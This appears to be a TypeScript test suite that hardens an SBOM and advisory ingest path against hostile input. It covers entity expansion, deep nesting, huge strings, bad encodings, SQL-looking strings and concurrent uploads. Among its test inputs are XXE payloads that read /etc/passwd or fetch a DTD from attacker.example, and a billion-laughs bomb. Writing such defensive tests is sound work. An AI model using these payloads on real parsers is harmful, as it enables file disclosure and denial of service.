/**
 * Hostile documents through the real ingest path (parse, normalise, store) on each database: XXE, entity
 * expansion, nesting 100,000 deep, a 50 MB string, numbers beyond any integer column, invalid UTF-8, SQL-looking
 * and unstorable strings in every field, and 20 simultaneous uploads of the same bytes. A rejection names where and
 * why, and leaves every table as it was; an acceptance stores the values as sent. A property test breaks a valid
 * document at random and checks the same of every outcome.
 *
 * A failure of the property prints its seed and path; replay it with FC_SEED=<seed> FC_PATH=<path>.
 */
import { sql } from 'kysely';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { SbomIssue } from '../../src/model/sbom-issue.js';
import type { IngestOutcome } from '../../src/model/sbom-record.js';
import { normaliseVendorName } from '../../src/normalise/normalise-vendor-name.js';
import { searchComponents } from '../../src/store/component.repository.js';
import { ingestAdvisory } from '../../src/store/ingest-advisory.js';
import { ingestSbom } from '../../src/store/ingest-sbom.js';
import { listStatementsOfAdvisory } from '../../src/store/vulnerability.repository.js';
import { findOrganisationByKey } from '../../src/store/organisation.repository.js';
import { findSbomById, readSbomContent } from '../../src/store/sbom.repository.js';
import {
  ADVISORIES,
  applyJsonPlan,
  applyTextPlan,
  expectRejection,
  fcParams,
  hugeString,
  JSON_SBOMS,
  jsonPlan,
  SQL_STRINGS,
  TEXT_SBOMS,
  textPlan,
  UNSTORABLE_STRINGS,
  withinBound,
  XML_SNIPPETS,
} from '../helpers/hostile-input.js';
import { BACKENDS, rowCounts, useTestDb, type TestDb } from '../helpers/test-db.js';

type Json = Record<string, any>;

const LWIP = JSON_SBOMS['cyclonedx-json'] as Json;
const CDX_XML = TEXT_SBOMS['cyclonedx-xml']!;
const SPDX_RDF = TEXT_SBOMS['spdx-rdf']!;
const XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>\n';
const bytesOf = (doc: unknown) => Buffer.from(typeof doc === 'string' ? doc : JSON.stringify(doc));

/** Row counts of every table of the schema. */
/** Ingests `bytes`, expects a rejection, and that no table changed; gives the problems found. */
async function expectRejected(t: TestDb, bytes: Uint8Array, options: { strict?: boolean } = {}): Promise<SbomIssue[]> {
  const before = await rowCounts(t);
  const outcome = await ingestSbom(t.db, bytes, options);
  expect(outcome.status).toBe('rejected');
  const issues = outcome.status === 'rejected' ? outcome.issues : [];
  expectRejection(issues);
  expect(await rowCounts(t)).toEqual(before);
  return issues;
}

async function originalBytes(t: TestDb, id: number): Promise<Buffer> {
  const record = (await findSbomById(t.db, id))!;
  const chunks: Buffer[] = [];
  for await (const c of readSbomContent(t.db, record)) chunks.push(c as Buffer);
  return Buffer.concat(chunks);
}

/**
 * A CycloneDX 1.6 document whose every free string (serial number, timestamp, authors, tools, subject and component
 * names, versions, groups, descriptions, authors, copyrights, suppliers, purls, bom-refs) is `value(n)`.
 */
function everyStringDocument(value: (n: number) => string, components = 6): { doc: Json; values: Json } {
  let n = 0;
  const next = () => value(n++);
  const component = () => ({
    type: 'library',
    'bom-ref': next(),
    name: next(),
    version: next(),
    group: next(),
    description: next(),
    author: next(),
    copyright: next(),
    supplier: { name: next() },
    purl: next(),
  });
  const doc = {
    bomFormat: 'CycloneDX',
    specVersion: '1.6',
    serialNumber: next(),
    version: 1,
    metadata: { timestamp: next(), authors: [{ name: next() }], tools: { components: [{ type: 'application', name: next(), version: next() }] }, component: component() },
    components: Array.from({ length: components }, component),
  };
  return { doc, values: doc };
}

describe.each(BACKENDS)('hostile input through ingestSbom on %s', (backend) => {
  const db = useTestDb(backend);

  describe('XML entities', () => {
    it('refuses an external entity (XXE) before any XML parser reads it, naming each declaration and its line', async () => {
      const xxe = CDX_XML.replace(XML_DECL, `${XML_DECL}<!DOCTYPE bom [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n`).replace('<name>ks-release-tool</name>', '<name>&xxe;</name>');
      const issues = await expectRejected(db(), bytesOf(xxe));
      expect(issues).toEqual([
        { code: 'FORBIDDEN_XML_CONSTRUCT', severity: 'error', path: 'line 2, column 1', message: "XML contains '<!DOCTYPE'; DOCTYPE and entity declarations are refused (XXE and entity-expansion protection)" },
        { code: 'FORBIDDEN_XML_CONSTRUCT', severity: 'error', path: 'line 2, column 16', message: "XML contains '<!ENTITY'; DOCTYPE and entity declarations are refused (XXE and entity-expansion protection)" },
      ]);
      expect(JSON.stringify(issues)).not.toMatch(/root:|passwd:/);
    });

    it('refuses a parameter entity in SPDX RDF/XML, and one in strict mode too', async () => {
      const rdf = SPDX_RDF.replace(XML_DECL, `${XML_DECL}<!DOCTYPE rdf:RDF [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>\n`);
      for (const strict of [false, true]) {
        const issues = await expectRejected(db(), bytesOf(rdf), { strict });
        expect(issues.map((i) => [i.code, i.path])).toEqual([['FORBIDDEN_XML_CONSTRUCT', 'line 2, column 1'], ['FORBIDDEN_XML_CONSTRUCT', 'line 2, column 20']]);
      }
    });

    it('refuses a billion laughs at once, listing at most ten declarations', async () => {
      const entities = [' <!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)];
      const laughs = CDX_XML.replace(XML_DECL, `${XML_DECL}<!DOCTYPE bom [\n${entities.join('\n')}\n]>\n`).replace('<name>ks-release-tool</name>', '<name>&lol9;</name>');
      const issues = await withinBound(2_000, () => expectRejected(db(), bytesOf(laughs)), () => 'billion laughs');
      expect(issues).toHaveLength(10);
      expect(issues[0]).toMatchObject({ code: 'FORBIDDEN_XML_CONSTRUCT', path: 'line 2, column 1', message: expect.stringContaining("'<!DOCTYPE'") });
      expect(issues[1]).toMatchObject({ code: 'FORBIDDEN_XML_CONSTRUCT', path: 'line 3, column 2', message: expect.stringContaining("'<!ENTITY'") });
    });
  });

  describe('nesting', () => {
    it('refuses JSON arrays and objects nested 100,000 deep where the limit is passed, without recursing', async () => {
      const prefix = '{"bomFormat":"CycloneDX","specVersion":"1.6","components":[';
      const arrays = `${prefix}${'['.repeat(100_000)}${']'.repeat(100_000)}]}`;
      // `{` is level 1, `components` level 2: the 63rd bracket after it is level 65.
      expect(await expectRejected(db(), bytesOf(arrays))).toEqual([
        { code: 'LIMIT_EXCEEDED', severity: 'error', path: `line 1, column ${prefix.length + 63}`, message: 'JSON nesting goes deeper than the limit of 64 levels' },
      ]);
      const head = '{"bomFormat":"CycloneDX","specVersion":"1.6","metadata":';
      const objects = `${head}${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}`;
      // `metadata` is level 2: the 63rd `{"a":` after it is level 65.
      expect(await expectRejected(db(), bytesOf(objects))).toMatchObject([{ code: 'LIMIT_EXCEEDED', path: `line 1, column ${head.length + 63 * 5 + 1}`, message: 'JSON nesting goes deeper than the limit of 64 levels' }]);
    });

    it('refuses XML elements nested 100,000 deep where the limit is passed', async () => {
      const xml = `${XML_DECL}<bom xmlns="http://cyclonedx.org/schema/bom/1.6" version="1"><components>${'<component type="library">'.repeat(100_000)}${'</component>'.repeat(100_000)}</components></bom>`;
      const issues = await expectRejected(db(), bytesOf(xml));
      // <bom> is level 1, <components> level 2: the 63rd <component> is level 65.
      const column = xml.indexOf('<components>') + '<components>'.length + 62 * '<component type="library">'.length - XML_DECL.length + 1;
      expect(issues).toEqual([{ code: 'LIMIT_EXCEEDED', severity: 'error', path: `line 2, column ${column}`, message: 'XML element nesting goes deeper than the limit of 64 levels' }]);
    });
  });

  describe('size', () => {
    const FIFTY_MB = 50 * 1024 * 1024;

    it('refuses a 50 MB name, naming the component, the field, its size and the limit', async () => {
      const doc = structuredClone(LWIP);
      doc.components[0].name = hugeString(FIFTY_MB, 'A');
      const issues = await withinBound(30_000, () => expectRejected(db(), bytesOf(doc)), () => '50 MB name');
      expect(issues).toEqual([
        {
          code: 'LIMIT_EXCEEDED',
          severity: 'error',
          path: 'ref:lwip-core',
          message: `component 'lwip-core' has a name of ${FIFTY_MB} bytes ('${'A'.repeat(40)}...'); names, versions, identifiers and references are limited to 1024 bytes`,
        },
      ]);
    });

    it('stores a 50 MB description whole and gives it back byte for byte', async () => {
      const doc = structuredClone(LWIP);
      const description = hugeString(FIFTY_MB, "0123456789abcdef'; --");
      doc.components[1].description = description;
      const bytes = bytesOf(doc);
      const outcome = await withinBound(60_000, () => ingestSbom(db().db, bytes), () => '50 MB description');
      expect(outcome.status).toBe('accepted');
      const id = outcome.status === 'accepted' ? outcome.record.id : -1;
      const [stored] = await searchComponents(db().db, { sbomId: id, name: 'lwIP sequential and socket API' }, { first: 1 });
      expect(stored?.description?.length).toBe(FIFTY_MB);
      expect(stored?.description === description).toBe(true);
      expect((await originalBytes(db(), id)).equals(bytes)).toBe(true);
    });
  });

  describe('numbers', () => {
    const withVersion = (raw: string) => JSON.stringify(LWIP).replace('"version":1,', `"version":${raw},`);

    it('keeps a document version beyond any integer column out of the record, with a warning, and stores the document', async () => {
      for (const raw of ['18446744073709551616', '1e308', '1e400', '-1e400', '2147483648']) {
        const outcome = await ingestSbom(db().db, Buffer.from(withVersion(raw)));
        expect(outcome.status).toBe('accepted');
        if (outcome.status !== 'accepted') continue;
        expect(outcome.record.documentVersion).toBeUndefined();
        expect(outcome.issues.find((i) => i.path === '/version' && i.code === 'LIMIT_EXCEEDED')).toMatchObject({ severity: 'warning', message: expect.stringContaining('is not recorded (the stored original keeps it)') });
      }
    });

    it('in strict mode takes 1e400 as the integer it is, and refuses 1.5 where an integer is required and 1e400 where a string is', async () => {
      // 1e400 is 10^400, an integer by the schema's rule; it reads as Infinity, so it is not recorded (warning above).
      expect((await ingestSbom(db().db, Buffer.from(withVersion('1e400')), { strict: true })).status).toBe('accepted');
      const issues = await expectRejected(db(), Buffer.from(withVersion('1.5')), { strict: true });
      expect(issues).toEqual([{ code: 'SCHEMA_VIOLATION', severity: 'error', path: '/version', message: "'/version' 1.5 is not of type integer (CycloneDX 1.4 JSON schema)" }]);
      const text = JSON.stringify(LWIP).replace('"version":"2.1.3","description":"src/core', '"version":1e400,"description":"src/core');
      const second = await expectRejected(db(), Buffer.from(text), { strict: true });
      expect(second).toEqual([{ code: 'SCHEMA_VIOLATION', severity: 'error', path: '/components/0/version', message: "'/components/0/version' Infinity is not of type string (CycloneDX 1.4 JSON schema)" }]);
    });
  });

  describe('encoding', () => {
    it('refuses bytes that are not UTF-8, naming the offset and the byte', async () => {
      const text = JSON.stringify(LWIP);
      const at = Buffer.from(text.slice(0, text.indexOf('lwIP core') + 4)).length;
      for (const bad of [[0xff], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xe2, 0x82]]) {
        const bytes = Buffer.concat([Buffer.from(text).subarray(0, at), Buffer.from(bad), Buffer.from(text).subarray(at)]);
        const issues = await expectRejected(db(), bytes);
        expect(issues).toEqual([
          { code: 'INVALID_ENCODING', severity: 'error', path: `byte ${at}`, message: `byte 0x${bad[0]!.toString(16)} at offset ${at} is not valid UTF-8; documents must be UTF-8 (or UTF-16 with a byte-order mark)` },
        ]);
      }
    });
  });

  describe('strings', () => {
    it('stores a document whose every string looks like SQL, and gives every string back byte for byte', async () => {
      const value = (n: number) => `${SQL_STRINGS[n % SQL_STRINGS.length]} #${n}`;
      const { doc } = everyStringDocument(value);
      const bytes = bytesOf(doc);
      const outcome = await ingestSbom(db().db, bytes);
      expect(outcome.status).toBe('accepted');
      const id = outcome.status === 'accepted' ? outcome.record.id : -1;
      await expectStoredAsSent(db(), id, doc, (s) => s);
      expect((await originalBytes(db(), id)).equals(bytes)).toBe(true);
      // The tables are all there, and nothing else was written.
      expect(await rowCounts(db())).toMatchObject({ sbom: 1, component: 7, sbom_content: 1 });
    });

    it('stores NUL and unpaired surrogates in every string as U+FFFD, and gives the original bytes back as sent', async () => {
      const value = (n: number) => `${UNSTORABLE_STRINGS[n % UNSTORABLE_STRINGS.length]} #${n}`;
      const { doc } = everyStringDocument(value);
      const bytes = bytesOf(doc);
      const outcome = await ingestSbom(db().db, bytes);
      expect(outcome.status).toBe('accepted');
      const id = outcome.status === 'accepted' ? outcome.record.id : -1;
      await expectStoredAsSent(db(), id, doc, (s) => s.replace(/\0/g, '\uFFFD').toWellFormed());
      expect((await originalBytes(db(), id)).equals(bytes)).toBe(true);
    });
  });

  describe('advisories', () => {
    const OPENVEX = ADVISORIES['openvex-helper'] as Json;

    it('stores SQL-looking, NUL and unpaired-surrogate strings of an advisory, the unstorable ones as U+FFFD', async () => {
      const doc = structuredClone(OPENVEX);
      const values = [...SQL_STRINGS, ...UNSTORABLE_STRINGS].map((v, i) => `${v} #${i}`);
      doc['@id'] = `https://medisyn.example/vex/${values[0]}`;
      doc.author = values[1];
      doc.statements[0].vulnerability.name = values[2];
      doc.statements[0].vulnerability.aliases = [values[19], values[20]];
      doc.statements[0].impact_statement = values[21];
      doc.statements[1].vulnerability.name = values[18];
      doc.statements[1].action_statement = values[3];
      const outcome = await ingestAdvisory(db().db, bytesOf(doc));
      expect(outcome.status).toBe('accepted');
      if (outcome.status !== 'accepted') return;
      const fffd = (v: string) => v.replace(/\0/g, '\uFFFD').toWellFormed();
      expect(outcome.record).toMatchObject({ documentId: doc['@id'], publisher: { name: values[1] } });
      const statements = await listStatementsOfAdvisory(db().db, outcome.record.id, 100);
      expect(statements[0]).toMatchObject({ vulnerabilityId: values[2], impactStatement: fffd(values[21]!) });
      expect(statements[1]).toMatchObject({ vulnerabilityId: fffd(values[18]!), actionStatement: values[3] });
    });

    it('refuses an advisory whose vulnerability id is beyond the index limit, writing nothing', async () => {
      const doc = structuredClone(OPENVEX);
      doc.statements[0].vulnerability.name = `CVE-2099-${'1'.repeat(2_000)}`;
      const before = await rowCounts(db());
      const outcome = await ingestAdvisory(db().db, bytesOf(doc));
      expect(outcome).toMatchObject({ status: 'rejected', issues: [{ code: 'LIMIT_EXCEEDED', path: '/statements/0/products/0', message: expect.stringMatching(/^the statement names a vulnerability of 2009 bytes \('CVE-2099-1111.*\.\.\.'\); ids, names and product identities are limited to 1024 bytes$/) }] });
      expect(await rowCounts(db())).toEqual(before);
    });
  });

  it('creates exactly one record when 20 uploads of the same bytes arrive at once, and answers each with it', async () => {
    const bytes = bytesOf({ ...LWIP, serialNumber: 'urn:uuid:8b852618-0a47-47b0-b428-3ec8469bdf77' });
    const outcomes = await Promise.all(Array.from({ length: 20 }, () => ingestSbom(db().db, bytes)));
    expect(outcomes.filter((o) => o.status === 'accepted')).toHaveLength(1);
    expect(outcomes.filter((o) => o.status === 'duplicate')).toHaveLength(19);
    const ids = new Set(outcomes.map((o) => (o.status === 'rejected' ? undefined : o.record.id)));
    expect(ids.size).toBe(1);
    expect(await rowCounts(db())).toMatchObject({ sbom: 1, component: 4, sbom_content: 1 });
  });

  it('for random breakages of valid documents: accepted with one component row per counted component, or rejected with no table changed', async () => {
    const doc = fc.oneof(
      fc.tuple(fc.constantFrom(...Object.keys(JSON_SBOMS)), jsonPlan).map(([seed, plan]) => applyJsonPlan(JSON_SBOMS[seed], plan)),
      fc.tuple(fc.constantFrom('cyclonedx-xml', 'spdx-rdf'), textPlan(XML_SNIPPETS)).map(([seed, plan]) => applyTextPlan(TEXT_SBOMS[seed]!, plan)),
    );
    await fc.assert(
      fc.asyncProperty(doc, fc.boolean(), async (bytes, strict) => {
        const before = await rowCounts(db());
        const outcome: IngestOutcome = await ingestSbom(db().db, bytes, { strict });
        if (outcome.status !== 'accepted') {
          if (outcome.status === 'rejected') expectRejection(outcome.issues);
          expect(await rowCounts(db())).toEqual(before);
          return;
        }
        const id = outcome.record.id;
        const stored = await sql<{ components: number; subjects: number; edges: number; issues: number }>`
          select (select count(*)::int from component where sbom_id = ${id} and not is_subject) as components,
                 (select count(*)::int from component where sbom_id = ${id} and is_subject) as subjects,
                 (select coalesce(sum(cardinality(to_idx)), 0)::int from component_edge where sbom_id = ${id}) as edges,
                 (select count(*)::int from sbom_issue where sbom_id = ${id}) as issues`.execute(db().db);
        const row = stored.rows[0]!;
        expect(row.components).toBe(outcome.record.componentCount);
        expect(row.edges).toBe(outcome.record.relationshipCount);
        expect(row.issues).toBe(outcome.record.issueCount);
        if (strict) expect(outcome.record.schemaValid).toBe(true);
        expect((await rowCounts(db())).sbom).toBe(before.sbom! + 1);
      }),
      fcParams(50),
    );
  });
});

/** Every string of an {@link everyStringDocument} reads back from the store as `expected(sent)`. */
async function expectStoredAsSent(t: TestDb, id: number, doc: Json, expected: (sent: string) => string): Promise<void> {
  const record = (await findSbomById(t.db, id))!;
  const e = expected;
  expect(record.serialNumber).toBe(e(doc.serialNumber));
  expect(record.createdText).toBe(e(doc.metadata.timestamp));
  expect(record.authors).toMatchObject([{ name: e(doc.metadata.authors[0].name) }]);
  expect(record.tools).toEqual([{ name: e(doc.metadata.tools.components[0].name), version: e(doc.metadata.tools.components[0].version) }]);
  const subject = doc.metadata.component;
  expect(record.subject).toMatchObject({ name: e(subject.name), version: e(subject.version) });
  expect(record.name).toBe(e(subject.name));
  const stored = await searchComponents(t.db, { sbomId: id }, { first: 100 });
  const sent = [subject, ...doc.components];
  expect(stored).toHaveLength(sent.length);
  for (const [i, c] of sent.entries()) {
    expect(stored[i]).toMatchObject({
      ref: e(c['bom-ref']),
      name: e(c.name),
      version: e(c.version),
      group: e(c.group),
      description: e(c.description),
      author: e(c.author),
      copyright: e(c.copyright),
      supplierName: e(c.supplier.name),
      purl: e(c.purl),
    });
    const key = normaliseVendorName(c.supplier.name);
    if (key) expect((await findOrganisationByKey(t.db, key))?.name).toBe(e(c.supplier.name));
  }
}
